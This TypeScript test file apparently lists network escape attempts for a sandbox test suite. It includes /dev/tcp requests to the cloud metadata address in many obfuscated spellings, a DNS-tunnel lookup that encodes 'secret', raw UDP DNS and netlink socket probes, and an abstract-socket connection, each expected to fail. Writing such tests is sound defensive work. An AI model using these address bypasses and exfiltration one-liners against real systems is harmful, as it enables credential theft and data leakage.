/** Ways to anything outside of the sandbox: addresses in every spelling, names, sockets. */
import type { EscapeAttempt } from "../support/attempt.ts";
import { walls } from "../support/walls.ts";

/** Every spelling that a C library accepts for 169.254.169.254, and the IPv6 address. */
const metadata = {
  plain: "169.254.169.254",
  "one number": "2852039166",
  hexadecimal: "0xa9fea9fe",
  octal: "0251.0376.0251.0376",
  "two parts": "169.16689662",
  "three parts": "169.254.43518",
  "mapped into version 6": "::ffff:169.254.169.254",
  "mapped, in hexadecimal": "::ffff:a9fe:a9fe",
  "of version 6": "fd00:ec2::254",
};
const others = {
  "the machine itself": "127.0.0.1",
  "the machine itself, version 6": "::1",
  "the machine, as no address": "0.0.0.0",
  "a private network, 10/8": "10.1.2.3",
  "a private network, 172.16/12": "172.16.0.1",
  "a private network, 192.168/16": "192.168.1.1",
  "a carrier's network": "100.64.0.1",
  "the internet": "1.1.1.1",
};

const unreachable = "*@(unreachable|refused|Cannot assign)*";

function reach(name: string, host: string): EscapeAttempt {
  const ask = `exec 3<>/dev/tcp/${host}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`;
  const script = `verdict "$( (${ask}) 2>&1)" "*reached*" "${unreachable}"`;
  return { name, control: "EXE-6", script, behind: [walls.network], mode: "userns" };
}

export const onTheNetwork: readonly EscapeAttempt[] = [
  ...Object.entries(metadata).map(([how, host]) => reach(`the metadata server, ${how}`, host)),
  ...Object.entries(others).map(([what, host]) => reach(what, host)),
  {
    name: "a DNS tunnel through the machine's resolver",
    control: "NET-3",
    script: 'verdict "$(getent ahostsv4 c2VjcmV0.tunnel.test | head -1)" "10.1.2.3 *" ""',
    behind: [walls.network, walls.noResolver],
    mode: "userns",
  },
  {
    name: "a DNS tunnel to a resolver of one's own",
    control: "NET-3",
    script: `verdict "$(perl -MIO::Socket::INET -e '
      my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "1.1.1.1:53", Timeout => 1);
      print "no way" and exit unless $s and $s->send("\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1x\\0\\0\\1\\0\\1");
      $SIG{ALRM} = sub { print "no way"; exit }; alarm 2; $s->recv(my $reply, 512);
      print "answered" if length $reply')" answered "no way"`,
    behind: [walls.network],
    mode: "userns",
  },
  {
    name: "another network, by the netlink socket that lists it",
    control: "EXE-4",
    script: `verdict "$(perl -e 'socket(my $s, 16, 3, 0) or die $!;
      send($s, pack("LSSLLSSlLLSSL", 40, 16, 5, 1, 0, 0, 0, 1, 0, 0, 8, 4, 1500), 0) or die $!;
      recv($s, my $reply, 4096, 0) // die $!; print unpack("x16 l", $reply)')" 0 -1`,
    behind: [walls.unprivileged],
    mode: "setpriv",
  },
  {
    name: "an abstract socket of the machine",
    control: "EXE-2",
    script: `verdict "$(perl -MSocket -e '
      socket(my $s, PF_UNIX, SOCK_STREAM, 0); my $to = pack("Sa*", AF_UNIX, "\\0paddock-escape");
      print connect($s, $to) ? <$s> : $!')" reached "*refused*"`,
    behind: [walls.network],
    mode: "userns",
  },
];
